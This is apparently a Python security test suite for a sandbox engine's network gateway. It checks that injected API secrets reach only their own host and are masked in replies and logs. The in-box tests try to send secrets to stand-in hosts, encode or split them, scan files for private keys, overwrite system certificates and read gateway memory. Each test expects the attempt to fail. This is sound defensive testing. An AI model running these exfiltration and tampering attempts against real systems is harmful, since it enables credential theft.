# SPDX-License-Identifier: Apache-2.0
"""Secrets of requests: learn a value, or have it sent elsewhere; and misuse the authority that boxes with rules for requests trust."""

import base64
import json
import os
import secrets
import subprocess
import sys
import urllib.parse

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
sys.path.insert(0, os.path.join(HERE, "..", "system"))
import attack  # noqa: E402
import harness  # noqa: E402
import netbox  # noqa: E402
import service  # noqa: E402
import upstream  # noqa: E402
import web  # noqa: E402
from netbox import reply  # noqa: E402

# It has what each form of it writes in another way.
VALUE = "sk+live/" + secrets.token_hex(12) + "=&x"
STARS = "*" * len(VALUE)
TOKEN = "token" + secrets.token_hex(12)  # which may stand wherever a word may
kept = []


def forms(value):
    """How it may stand in a request or in an answer."""
    raw = value.encode()
    shifted = [base64.b64encode(b"xyz"[:n] + raw)[4:-4].decode() for n in range(3)]
    return [value, urllib.parse.quote(value, safe=""), json.dumps(value)[1:-1], *shifted]


def answer(request):
    """An echo, in many forms, by the last part of the path. What it says is the field A."""
    what, _, query = request.target.partition("?")
    what, fields = what.rpartition("/")[2], dict(request.fields)
    said = fields.get("a", "")
    if what == "ws":
        return reply(status="101 Switching Protocols", Upgrade="websocket", Connection="Upgrade")
    if what == "keep":
        kept.append(said)
    if what == "to":
        return reply(status="302 Found", Location=query)
    if what == "pieces":
        return (b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n" + b"".join(b"1\r\n%c\r\n" % c for c in said.encode()) +
                b"0\r\nX: " + said.encode() + b"\r\n\r\n")
    if what == "hints":
        return f"HTTP/1.1 103 {said}\r\nLink: {said}\r\n\r\n".encode() + reply(b"-", status="200 " + said)
    if what == "range" and "range" in fields:
        begin, end = fields["range"].removeprefix("bytes=").split("-")
        return reply(said[int(begin):int(end) + 1].encode(), status="206 Partial Content")
    if what == "codings":
        return f"HTTP/1.1 200 OK\r\nContent-Length: {len(said)}\r\nContent-Encoding: identity\r\nContent-Encoding: gzip\r\n\r\n{said}".encode()
    if what == "odd":
        return f"HTTP/1.1 200 OK\r\n{said}\r\n\x01: {said}\r\n\r\n".encode()
    body = {"url": urllib.parse.quote(said, safe=""), "json": json.dumps({"a": said}), "encoding": fields.get("accept-encoding", "none"),
            "fail": said, "range": said, "back": said[::-1], "kept": "".join(kept)}.get(what, said + request.body.decode("latin-1"))
    return reply(body.encode(), status="500 Failed" if what == "fail" else "200 OK", X_Said=said, **({said: "name"} if what == "name" else {}))


# In the box: get(path, fields) is the body of the answer by TLS.
GET = r"""
import base64
KEY, FORM, CLEAR = (os.environ[n] for n in ("KEY", "FORM", "CLEAR"))

def get(target, *fields, part=-1, tls=True, host="api.test", **more):
    return heard(request("Host: " + host, "Connection: close", *fields, target="/v1/" + target, **more), tls, host=host).split("\r\n\r\n", 1)[part]
"""


class Case(netbox.Hosts):
    """KEY is for one host of the server, FORM also in its queries and bodies, CLEAR for it without TLS."""

    prelude = netbox.PRELUDE + netbox.REQUESTS + GET
    answer = staticmethod(answer)
    rules = [how + name + "/*" for how in ("* ", "WEBSOCKET ") for name in netbox.Hosts.names]
    secret = VALUE

    @classmethod
    def known(cls):
        kept.clear()
        cls.env["VALUE"] = VALUE
        for secret in ("KEY=env:VALUE@api.test", "FORM=env:VALUE@api.test,query,body", "CLEAR=env:VALUE@api.test:80"):
            cls.options += ["--secret", secret]
        return {"STARS": STARS}


class Secrets(Case):
    def test_T_NET_SECRET_went_to_its_host_only(self):
        """Of all requests, those to its host that say "good" have the value, and no other one has it in any form."""
        for r in self.marked():
            text = f"{r.target} {r.fields} {r.body}"
            self.assertEqual(any(f in text for f in forms(VALUE)), "good" in r.target and ("host", "api.test") in r.fields, r)
        self.assertGreater(len(self.marked("evil")), 15)
        self.assertEqual(self.plain.bad + self.tls.bad, [])
        self.assertNotIn(VALUE.encode(), self.plain.tunnel + self.tls.tunnel)

    def test_T_NET_SECRET_control_server(self):
        """Not an attack: the server has got it, in each of its places."""
        found = [(dict(r.fields).get("a"), r.target.rpartition("?")[2], r.body.decode()) for r in self.marked("good=place")]
        quoted = urllib.parse.quote(VALUE, safe="")
        self.assertEqual(sorted(found, key=str), sorted([
            (VALUE, "good=place", ""), (VALUE, "good=place", ""), ("Basic " + base64.b64encode(f"u:{VALUE}".encode()).decode(), "good=place", ""),
            (None, "good=place&k=" + quoted, ""), (None, "good=place", VALUE)], key=str))

    @attack.inside([STARS] * 2 + ["X", "", STARS])
    def test_T_NET_SECRET_control():
        """Not an attack: headers, also in base64, a query and a body, and the answer without the value."""
        basic = "A: Basic " + base64.b64encode(b"u:" + KEY.encode()).decode()
        return [get("echo?good=place", "A: " + KEY), get("echo?good=place", "A: " + CLEAR, tls=False),
                "X" if "*" * 40 in get("echo?good=place", basic) else "no", get("echo?good=place&k=" + FORM),
                get("echo?good=place", "Content-Length: %d" % len(FORM), method="POST", body=FORM)]

    # ---- have it sent elsewhere ----

    @attack.inside([True] * 5)
    def test_T_NET_SECRET_to_another_host_or_port():
        """The same server under another name; the host without TLS and its secret with it."""
        return [get("echo?evil", "A: " + k, **at) == k for k, at in (
            (KEY, {"host": "other.test"}), (KEY, {"host": "other.test", "tls": False}), (KEY, {"tls": False}), (CLEAR, {}), (CLEAR, {"host": "other.test"}))]

    @attack.inside([421] * 4 + [403, "SSLZeroReturnError"])
    def test_T_NET_SECRET_to_a_host_under_the_name_of_its_own():
        """By Host, also twice, by the target, by the name in TLS, at the connection of the other."""
        def status(*fields, host="api.test", target="/v1/echo?evil", **more):
            return (statuses(request(*fields, "A: " + KEY, target=target), True, host=host, **more) or [0])[0]
        try:
            named = status("Host: api.test", host="other.test", sni="api.test")
        except ssl.SSLError as e:
            named = type(e).__name__
        return [status("Host: other.test"), status(HOST, "Host: other.test"), status(HOST, host="other.test"), status("Host: " + KEY),
                status(HOST, target="https://other.test/evil"), named]

    @attack.inside([True, 302])
    def test_T_NET_SECRET_along_with_a_redirection():
        """To another host, with the headers that the program gave: it gets the placeholder."""
        import urllib.request
        r = urllib.request.Request("https://api.test/v1/to?https://other.test/v1/echo?evil&good", headers={"A": KEY})
        return [urllib.request.urlopen(r, timeout=20).read().decode() == KEY, statuses(request(HOST, "A: " + KEY, target="/v1/to?/v1/good"), True)[0]]

    @attack.inside([403, 403, 403, 403, 403, 200, 200, 200])
    def test_T_NET_SECRET_in_other_places():
        """In the path, also of one for queries, in the query of a secret that is not for them, as the method, as a header's name, in two halves, folded."""
        def status(*fields, **more):
            return (statuses(request(HOST, *fields, **more), True) or [0])[0]
        return [status(target="/v1/evil/" + KEY), status(target="/v1/evil/" + FORM), status(target="/v1/evil/" + FORM + "?" + FORM), status(target="/v1/echo?evil&" + KEY), status(method=KEY[:20].upper(), target="/v1/" + KEY),
                status(KEY + ": x", target="/v1/echo?evil"), status("A: " + KEY[:20], "B: " + KEY[20:], target="/v1/echo?evil"),
                status("A: " + KEY[:20], " " + KEY[20:], target="/v1/echo?evil")]

    @attack.inside([True, True, 200, 101])
    def test_T_NET_SECRET_in_what_is_not_looked_at():
        """A body of a secret that is not for bodies, escaped, behind the chunks, in the frames of a WebSocket."""
        n = "Content-Length: %d" % len(KEY)
        escaped = "".join("%%%02x" % ord(c) for c in FORM)
        chunks = "Transfer-Encoding: chunked"
        status = statuses(request(HOST, chunks, method="POST", target="/v1/echo?evil", body=f"1;{FORM}\r\nx\r\n0\r\nA: {FORM}\r\n\r\n"), True)[0]
        switched = statuses(request(HOST, *WS, target="/v1/ws?evil") + KEY, True)[0]
        return [get("echo?evil", n, method="POST", body=KEY) == KEY, get("echo?evil&" + escaped) == "", status, switched]

    # ---- learn it ----

    @attack.inside([STARS, STARS, json.dumps({"a": STARS}), "*" * len(urllib.parse.quote(VALUE, safe="")), STARS])
    def test_T_NET_SECRET_in_an_answer():
        """Echoed in the body, in an error, in JSON, percent-encoded, and byte by byte, with trailers."""
        import urllib.request
        a, r = "A: " + KEY, urllib.request.Request("https://api.test/v1/pieces?good", headers={"A": KEY})
        return [get("echo?good", a), get("fail?good", a), get("json?good", a), get("url?good", a), urllib.request.urlopen(r, timeout=20).read().decode()]

    @attack.inside([True, True])
    def test_T_NET_SECRET_in_the_head_of_an_answer():
        """Echoed in a header, the words behind the status, early hints, of an answer to HEAD."""
        a = "A: " + KEY
        said = [get("echo?good", a, part=0), get("hints?good", a, part=0), get("echo?good", a, part=0, method="HEAD"), get("hints?good", a, part=0, method="HEAD")]
        return ["X-Said: " + "*" * 35 in said[0] and "X-Said: " + "*" * 35 in said[2], all("live" not in s for s in said)]

    @attack.inside([502, False])
    def test_T_NET_SECRET_in_an_error():
        """A malformed answer with the value in it: the gateway's words do not repeat it."""
        said = heard(request(HOST, "A: " + KEY, "Connection: close", target="/v1/odd?good"), True)
        return [int(said.split()[1]), "live" in said]

    @attack.inside(["none", True, False, True])
    def test_T_NET_SECRET_in_a_compressed_answer():
        """No server is asked to compress where a value could be in the answer; others are. A server that does, by its second word."""
        coded = get("codings?good", "A: " + KEY, part=0)
        return [get("encoding?evil", "Accept-Encoding: gzip, br"), get("encoding?evil", "Accept-Encoding: gzip", host="other.test") == "gzip", "live" in coded,
                coded.startswith("HTTP/1.1 502 ")]

    @attack.inside([STARS + "&" + STARS, "TRACE"])
    def test_T_NET_SECRET_twice_and_by_trace():
        """Two values side by side, and a method that says what came."""
        return [get("echo?good", f"A: {KEY}&{FORM}"), "TRACE" if STARS in get("echo?good", "A: " + KEY, method="TRACE") else "no"]

    @attack.inside([[], True])
    def test_T_NET_SECRET_in_the_box():
        """In the environment and the command of any process of the box, in the box's files."""
        needle, found, n = b"sk+" + b"live/", [], 0
        paths = ["/proc/%s/%s" % (p, what) for p in os.listdir("/proc") if p.isdigit() for what in ("environ", "comm", "mounts", "limits")]
        for folder, _, names in (row for top in ("/etc", "/tmp", "/run", "/var", "/dev/shm") for row in os.walk(top)):
            paths += [os.path.join(folder, name) for name in names]
        for path in paths:
            try:
                if not path.startswith("/dev") or os.path.isfile(path):
                    n += 1
                    found += [path] if needle in open(path, "rb").read(1 << 22) else []
            except OSError:
                pass
        return [found, n > 10]

    # ---- what is documented as not covered ----

    @attack.inside([True, STARS, True])
    def test_T_NET_SECRET_is_possible_with_a_server_that_helps():
        """A server that says it in a form of its own; and one that keeps it, and says it under another of its names."""
        backwards = get("back?good", "A: " + KEY)
        get("keep?good", "A: " + KEY)
        return [backwards != STARS, get("kept?ours"), get("kept?theirs", host="other.test") != STARS]


class Parts(Case):
    """As above: parts of it, names of it, and without TLS."""

    @classmethod
    def known(cls):
        known = super().known()
        cls.clear = netbox.Server(waits=True)
        cls.addClassCleanup(cls.clear.stop)
        cls.env["TOKEN"] = TOKEN
        cls.options += ["--net", f"clear.test:443=127.0.0.1:{cls.clear.port}", "--secret", "LATE=env:VALUE@clear.test", "--secret", "TOKEN=env:TOKEN@api.test"]
        return known

    def test_T_NET_SECRET_control_ranges(self):
        """Not an attack: the server was asked."""
        self.assertTrue(self.marked("range?good"))

    @attack.inside([STARS] * 6)
    def test_T_NET_SECRET_in_ranges():
        """An echo that is asked for a few bytes at a time: the server is asked for all of it."""
        return [get("range?good", "A: " + KEY, "Range: bytes=%d-%d" % (i, i + 4)) for i in range(0, 30, 5)]

    @attack.inside(False)
    def test_T_NET_SECRET_in_the_name_of_a_header():
        """A server that makes a header of it."""
        return "token" in get("name?good", "A: " + os.environ["TOKEN"], part=0)

    @attack.inside(True)
    def test_T_NET_SECRET_in_the_clear():
        """Without TLS, to the port of TLS: whoever is on the way reads it, and no certificate is asked for."""
        c = socket.create_connection(("clear.test", 443), 20)
        c.sendall(request("Host: clear.test", "A: " + os.environ["LATE"]).encode())
        return int(c.recv(100).split()[1]) in (400, 403, 421, 426)

    def test_T_NET_SECRET_in_the_clear_and_it_arrives(self):
        """What came there."""
        self.assertEqual([h for h in self.clear.heard if VALUE.encode() in h], [])


class Many(netbox.Hosts):
    """As many secrets of a host as there may be, of letters that each form writes in another way."""

    answer = staticmethod(answer)

    @classmethod
    def known(cls):
        for i in range(16):
            cls.env[f"V{i}"] = f'{i:02d}"?>~?>~{secrets.token_hex(8)}>>>~~~???'
            cls.options += ["--secret", f"S{i}=env:V{i}@api.test"]
        return {}

    @attack.inside([[], 16])
    def test_T_NET_SECRET_among_many():
        """Each is echoed by itself."""
        said = [heard(request(HOST, "Connection: close", "A: " + os.environ["S%d" % i], target="/v1/echo"), True).split("\r\n\r\n")[1] for i in range(16)]
        return [[i for i, s in enumerate(said) if set(s) != {"*"}], len(said)]


class Trust(netbox.Hosts):
    """What a box can do with the authority that it trusts, and with servers that are not who they say."""

    rules = ("GET api.test/v1/*", "GET other.test/v1/*", "GET *.wild.test/*", "GET wrong.test/*", "GET stranger.test/*", "GET clear.test/*")

    @classmethod
    def known(cls):
        cls.stranger = netbox.Web(netbox.Hosts.answer, upstream.certificate(["stranger.test"]))
        cls.clear = netbox.Server()
        cls.addClassCleanup(cls.stranger.stop)
        cls.addClassCleanup(cls.clear.stop)
        for name, server in (("wrong", cls.tls), ("stranger", cls.stranger), ("clear", cls.clear)):
            cls.options += ["--net", f"{name}.test:443=127.0.0.1:{server.port}"]
        return {}

    @attack.inside([[200, 200, ["api.test"]]])
    def test_T_NET_TRUST_control():
        """Not an attack: the gateway has a certificate of the name, and accepts that of the server."""
        with connect(True) as c:
            names = [n for _, n in c.getpeercert()["subjectAltName"]]
        return [[ask(), ask("Host: other.test", host="other.test"), names]]

    @attack.inside([["api.test"], ["x.wild.test"], "*CA:FALSE*"])
    def test_T_NET_TRUST_gets_a_certificate_of_others():
        """Without a name in TLS, and below a wildcard: each certificate is of the one name that was connected to, and of no authority."""
        import subprocess
        shown = []
        for host in ("api.test", "x.wild.test"):
            blind = ssl.create_default_context()
            blind.check_hostname = False
            with blind.wrap_socket(socket.create_connection((host, 443), 20)) as c:
                shown.append([n for _, n in c.getpeercert()["subjectAltName"]])
                pem = ssl.DER_cert_to_PEM_cert(c.getpeercert(True))
        about = subprocess.run(["openssl", "x509", "-noout", "-text"], input=pem, capture_output=True, text=True).stdout
        return [*shown, "*CA:FALSE*" if "CA:FALSE" in about and "CA:TRUE" not in about and "Certificate Sign" not in about else about]

    @attack.inside([])
    def test_T_NET_TRUST_writes_the_certificates():
        """Into the directory that all such boxes see: a new file, over one, away with one, its mode, its times, its attributes, a mount."""
        d, f = "/etc/ssl/certs", "/etc/ssl/certs/ca-certificates.crt"
        tries = dict(new=lambda: open(d + "/evil.pem", "w"), over=lambda: open(f, "r+"), cut=lambda: os.truncate(f, 0), away=lambda: os.unlink(f),
                     move=lambda: os.rename(f, d + "/x"), link=lambda: os.symlink("/tmp/evil", d + "/evil.0"), hard=lambda: os.link(f, d + "/x"),
                     mode=lambda: os.chmod(d, 0o777), times=lambda: os.utime(f), attribute=lambda: os.setxattr(f, "user.x", b"x"),
                     remount=lambda: call("mount", b"none", d.encode(), 0, MS_REMOUNT | MS_BIND, 0), over2=lambda: call("mount", b"/tmp", d.encode(), 0, MS_BIND, 0))
        return [name for name, f in tries.items() if outcome(f) not in ("EROFS", "EPERM", "EACCES", "ENOTSUP", "EOPNOTSUPP")]

    @attack.inside([[], True])
    def test_T_NET_TRUST_finds_the_key():
        """A private key in any file that the box sees, in its environment, in what the gateway sends."""
        mark = b"PRIVATE " + b"KEY-----"
        found, n = [], 0
        for top in ("/etc", "/tmp", "/run", "/var", "/dev", "/proc/self", "/home", "/root"):
            for folder, folders, names in os.walk(top):
                for path in (os.path.join(folder, name) for name in names):
                    try:
                        if os.path.isfile(path) and path not in ("/proc/self/mem", "/proc/self/pagemap"):
                            n += 1
                            found += [path] if mark in open(path, "rb").read(1 << 20) else []
                    except OSError:
                        pass
                if folder.startswith("/proc"):
                    folders.clear()
        return [found, n > 100]

    @attack.inside([300, 1, ["w0.wild.test"]])
    def test_T_NET_TRUST_wants_many_certificates():
        """More names than the gateway keeps certificates of: each is right, also the first again."""
        names = ["w%d.wild.test" % i for i in range(300)]
        def name_of(host):
            with connect(True, host) as c:
                return [n for _, n in c.getpeercert()["subjectAltName"]]
        shown = [name_of(n) for n in names]
        return [len({s[0] for s in shown}), max(map(len, shown)), name_of(names[0])]

    @attack.inside([502] * 3)
    def test_T_NET_TRUST_in_a_server_that_is_another():
        """Of another name, of an authority that nobody knows, without TLS: the program has no say in whether it is accepted."""
        return [statuses(request("Host: " + h, target="/v1/evil"), True, host=h)[0] for h in ("wrong.test", "stranger.test", "clear.test")]

    def test_T_NET_TRUST_in_a_server_that_is_another_and_it_hears_nothing(self):
        """No request went there."""
        self.assertEqual([r for server in (self.tls, self.stranger) for r in server.requests if "evil" in r.target], [])
        self.assertEqual((self.stranger.bad, [h for h in self.clear.heard if b"evil" in h]), ([], []))
        for host, reason in (("wrong", "its server's certificate is not accepted"), ("stranger", "its server's certificate is not accepted"), ("clear", "")):
            row, = self.told(name=host + ".test", verdict="failed")
            self.assertIn(reason, row["reason"])

    @attack.inside(["ended", 200])
    def test_T_NET_TRUST_negotiates_anew():
        """A second handshake in a connection of TLS 1.2, which could be for another name; with TLS 1.3, there is none."""
        import subprocess
        def s_client(version):
            done = subprocess.run("(sleep 0.3; echo R; sleep 0.3; printf 'GET /v1/again HTTP/1.1\\r\\nHost: api.test\\r\\nConnection: close\\r\\n\\r\\n'; sleep 0.5)"
                                  f" | openssl s_client {version} -connect api.test:443 -servername api.test 2>&1", shell=True, capture_output=True, text=True)
            return 200 if "HTTP/1.1 200" in done.stdout else "ended" if "RENEGOTIATING" in done.stdout else done.stdout
        return [s_client("-tls1_2"), ask()]


class Boxes(harness.Case):
    """Boxes of an engine that has an authority, and of others."""

    TELL = netbox.PRELUDE + netbox.REQUESTS + "with connect(True) as c: pem = ssl.DER_cert_to_PEM_cert(c.getpeercert(True))\nprint(pem)"
    VERIFY = "import subprocess\nsubprocess.run(['openssl', 'verify', '-CApath', '/etc/ssl/certs'], input=pem, capture_output=True, text=True).stdout.strip()"

    def engine(self):
        engine = service.Engine("--standby", "0")
        self.addCleanup(engine.stop)
        return engine

    def test_T_NET_TRUST_of_other_boxes(self):
        """A certificate that the gateway shows is accepted by boxes with rules for requests, of the same engine, and by nobody else:
        not by boxes with other rules or none, those of another engine, or the host."""
        engine, other = self.engine(), self.engine()
        rules = ["GET api.test/*"]
        pem = engine.session(net=rules).run(self.TELL)["stdout"]
        self.assertIn("BEGIN CERTIFICATE", pem)
        for e, net, is_good in ((engine, rules, True), (engine, ["api.test"], False), (engine, [], False), (other, rules, False)):
            said = e.session(net=net).value(f"pem = {pem!r}\n{self.VERIFY}")
            self.assertEqual("OK" in said, is_good, (net, said))
        on_host = {"pem": pem}
        exec(self.VERIFY.rpartition("\n")[0] + "\ndone = " + self.VERIFY.rpartition("\n")[2], on_host)
        self.assertNotIn("OK", on_host["done"])

    def test_T_NET_TRUST_on_the_disk(self):
        """No key is in the engine's state, in the directory of certificates or in the journal; only the operator can write there, and it goes."""
        engine = self.engine()
        s = engine.session(net=["GET api.test/*"])
        s.run(self.TELL)
        where = s.value("[l.split()[3] for l in open('/proc/self/mountinfo') if ' /etc/ssl/certs ' in l][-1]").strip("'")
        mounts = [line.split()[4] for line in open("/proc/self/mountinfo", encoding="utf-8")]
        folder, = [p for p in {m.rstrip("/") + where for m in mounts} if os.path.isdir(p)][:1]
        self.assertIn("retort-certs-", folder)
        self.assertEqual((os.stat(folder).st_uid, os.stat(folder).st_mode & 0o022), (os.geteuid(), 0))
        for top in (folder, engine.dir):
            for path in (os.path.join(f, n) for f, _, names in os.walk(top) for n in names):
                if os.path.isfile(path):
                    with open(path, "rb") as f:
                        self.assertNotIn(b"PRIVATE KEY-----", f.read(), path)
        engine.stop()
        self.assertFalse(os.path.exists(folder))


class Sessions(harness.Case):
    """Secrets of an engine with several sessions; here to a port without TLS."""

    def setUp(self):
        self.server = netbox.Web(answer)
        self.addCleanup(self.server.stop)
        self.net = [f"api.test:80=127.0.0.1:{self.server.port}", "* api.test/*"]

    def secret(self, value=VALUE, name="KEY", to="api.test:80"):
        return {"name": name, "value": value, "to": to}

    def engine(self, **options):
        engine = service.Engine("--standby", "0", **options)
        self.addCleanup(engine.stop)
        return engine

    def session(self, engine, *given, **params):
        s = engine.session(net=self.net, secrets=list(given) or [self.secret()], **params)
        s.run(netbox.PRELUDE + netbox.REQUESTS + "import os\ndef send(**at): return statuses(request(HOST, 'A: ' + os.environ['KEY'], **at), False)[0]")
        return s

    def got(self):
        return [dict(r.fields).get("a", "-") for r in self.server.requests]

    def test_T_NET_SECRET_of_another_session(self):
        """Sessions that were made alike have the same placeholder, and one that has none can write it: each sends its own value or none."""
        engine = self.engine()
        one, two = self.session(engine), self.session(engine, self.secret("the-other-value"))
        none = engine.session(net=self.net)
        placeholder = one.value("os.environ['KEY']")
        self.assertEqual(two.value("os.environ['KEY']"), placeholder)
        none.run(netbox.PRELUDE + netbox.REQUESTS)
        none.value(f"statuses(request(HOST, 'A: ' + {placeholder}), False)")
        for s in (one, two, one):
            self.assertEqual(s.value("send()"), "200")
        self.assertEqual(self.got(), [placeholder.strip("'"), VALUE, "the-other-value", VALUE])

    def test_T_NET_SECRET_within_a_value(self):
        """A value that has the placeholder of another in it is put in as it is."""
        engine = self.engine()
        inner = self.session(engine).value("os.environ['KEY']").strip("'")
        s = self.session(engine, self.secret(), self.secret(f"{inner} and {inner}", name="TWO"))
        self.assertEqual(s.value("statuses(request(HOST, 'A: ' + os.environ['TWO'] + os.environ['KEY']), False)"), "[200]")
        self.assertEqual(self.got(), [f"{inner} and {inner}{VALUE}"])

    def test_T_NET_SECRET_in_a_branch_and_after_a_restart(self):
        """Neither has it, nor a branch of a branch that had it; undo and rollback give nothing back."""
        state = harness.make_dir()
        engine = self.engine(state=state)
        s = self.session(engine)
        self.assertEqual(s.value("send()"), "200")
        b = service.Session(engine, engine.call("session.branch", session=s.id))
        with_it = service.Session(engine, engine.call("session.branch", session=s.id, secrets=True))
        again = service.Session(engine, engine.call("session.branch", session=with_it.id))
        b.run("send()\nraise ValueError", atomic=True)
        self.assertEqual([x.value("send()") for x in (b, with_it, again)], ["403", "200", "403"])
        b.undo()
        self.assertEqual(b.value("send()"), "403")
        engine.stop()
        engine = self.engine(state=state)
        self.assertEqual(engine.call("step.run", session=s.id, code="send()")["value"]["text/plain"], "403")
        self.assertEqual(self.got(), [VALUE] * 2)

    def test_T_NET_SECRET_in_the_memory_of_ours(self):
        """From another process of the user, or as nobody: environment, memory, descriptors and core file of the gateway and the engine are
        not to be had, and no command line has it."""
        engine = self.engine()
        self.session(engine).value("send()")
        program = ("import os, sys\nfor pid in sys.argv[1:]:\n    for what in ('environ', 'mem', 'maps', 'fd', 'auxv', 'stack', 'io'):\n"
                   "        p = f'/proc/{pid}/{what}'\n        try:\n            os.listdir(p) if what == 'fd' else open(p, 'rb').read(1)\n            print(pid, what)\n"
                   "        except OSError: pass\n")
        ours = [engine.process.pid, netbox.gateway_of(engine)]
        nobody = {"user": 65534, "group": 65534, "extra_groups": []} if harness.IS_ROOT else {}
        done = subprocess.run(["/usr/bin/python3", "-c", program, *map(str, ours)], capture_output=True, text=True, cwd="/", check=True, **nobody)
        self.assertEqual(done.stdout, "")
        for pid in harness.processes():
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    self.assertNotIn(VALUE.encode(), f.read())
            except OSError:
                pass

    def test_T_NET_SECRET_in_what_is_written_down(self):
        """Records, events, exports, metrics, logs and the journal, over HTTP too; also a value that came later, and what is refused."""
        later = "later-" + VALUE
        with web.Server(tokens="any aaaaaaaaaaaaaaaa net=any\n") as server:
            def call(method, **params):
                return server.rpc(method, headers={"Authorization": "Bearer aaaaaaaaaaaaaaaa"}, **params)
            s = call("session.create", net=self.net, secrets=[self.secret()])["session"]
            code = netbox.PRELUDE + netbox.REQUESTS + (
                "import os\nkey = os.environ['KEY']\nfor t in ('/v1/echo', '/v1/' + key, '/v1/odd'):\n"
                "    print(heard(request(HOST, 'Connection: close', 'A: ' + key, target=t), False))")
            said = [call("step.run", session=s, code=code)]
            call("session.net", session=s, secrets=[{"name": "KEY", "value": later}])
            said.append(call("step.run", session=s, code=code))
            for bad in ({"value": later + "\n"}, {"to": "127.0.0.1"}, {"name": "PATH"}):
                with self.assertRaises(web.Failed) as caught:
                    call("session.create", secrets=[self.secret(later) | bad])
                said.append(str(caught.exception))
            said += [call(m, session=s) for m in ("session.log", "session.export", "session.get", "session.net")]
            said += [server.request("GET", "/metrics").body.decode(), server.said()]
            self.assertIn(STARS, said[0]["stdout"])
            self.assertNotIn("live", json.dumps(said))
            for path in (os.path.join(f, n) for f, _, names in os.walk(server.dir) for n in names):
                if os.path.isfile(path):
                    with open(path, "rb") as f:
                        self.assertNotIn(b"live", f.read(), path)
        self.assertEqual(self.got(), [VALUE, VALUE, later, later])

    def test_T_NET_SECRET_from_a_caller_without_the_right(self):
        """A secret opens the network for its host: over HTTP it needs the right to give rules. The values of others are not theirs to change or inherit."""
        with web.Server(tokens="none nnnnnnnnnnnnnnnn\npublic pppppppppppppppp net=public\nany aaaaaaaaaaaaaaaa net=any\n") as server:
            def call(who, method, **params):
                return server.rpc(method, headers={"Authorization": "Bearer " + who[0] * 16}, **params)
            s = call("any", "session.create", net=self.net, secrets=[self.secret()])["session"]
            for who, method, why, params in (
                    ("none", "session.create", "denied", {"secrets": [self.secret(to="evil.test")]}), ("none", "template.create", "denied", {"secrets": [self.secret()]}),
                    ("public", "session.net", "not_found", {"session": s, "secrets": [{"name": "KEY", "value": "stolen-one"}]}),
                    ("public", "session.branch", "not_found", {"session": s, "secrets": True}), ("public", "session.create", "usage", {"secrets": [self.secret(to="127.0.0.1")]}),
                    ("public", "session.create", "usage", {"secrets": [self.secret(to="localhost")]})):
                with self.assertRaises(web.Failed, msg=(who, method)) as caught:
                    call(who, method, **params)
                self.assertEqual(caught.exception.code, why)
            record = call("any", "step.run", session=s, code=netbox.PRELUDE + netbox.REQUESTS + "import os\nprint(statuses(request(HOST, 'A: ' + os.environ['KEY']), False))")
            self.assertEqual((record["stdout"], self.got()), ("[200]\n", [VALUE]))

    def test_T_NET_SECRET_of_another_session_in_a_request_that_waits(self):
        """A request whose body is collected while the session gets a new value: it is sent with the old value or the new one, and never with what
        took the place of the old one in the gateway's memory: the value of another session."""
        engine = self.engine()
        old, new, others = ("%s-%s" % (word, secrets.token_hex(100)) for word in ("old", "new", "other"))
        s = self.session(engine, self.secret(old, to="api.test:80,body"))
        s.value("c = connect(False)\nc.sendall(request(HOST, 'A: ' + os.environ['KEY'], 'Content-Length: 4', method='POST', body='ab').encode())\nsend()")
        engine.call("session.net", session=s.id, secrets=[{"name": "KEY", "value": new}])
        for _ in range(3):
            self.session(engine, self.secret(others))
        gateway = netbox.gateway_of(engine)
        s.run("c.sendall(b'cd')\nc.recv(100)")
        self.assertEqual((self.got()[0], netbox.gateway_of(engine)), (old, gateway))
        self.assertNotIn(others[20:50], str(self.server.requests))
        self.assertIn(self.got()[1:], ([], [old], [new]))

    @harness.unittest.skipIf(harness.IS_SANITIZED, "a process's memory says nothing")
    def test_T_NET_SECRET_fills_the_memory(self):
        """Bodies of placeholders, each of 1 MiB, for a server that does not read: a long value makes them longer. 64 connections may take
        what all connections of a box may (src/gateway/process/inside.h)."""
        engine = self.engine()
        with upstream.Tcp(lambda c: c.recv(1, 2) and harness.until(lambda: engine.process.poll() is not None)) as deaf:
            self.net = [f"api.test:80=127.0.0.1:{deaf.port}", "* api.test/*"]
            s = self.session(engine, self.secret("v" * 8000, to="api.test:80,body"), limits={"timeout_ms": 100000})
            s.run("key = os.environ['KEY']\nbody = key * 900 + 'x' * 900000\ncs = []\n"
                  "for i in range(64):\n    c = connect(False); cs.append(c)\n    c.sendall(request(HOST, 'Content-Length: %d' % len(body), method='POST', body=body).encode())\n"
                  "time.sleep(1)")
            memory = netbox.memory_of(netbox.gateway_of(engine))
            engine.stop()
        self.assertLess(memory, 256 << 10)


if __name__ == "__main__":
    harness.main()
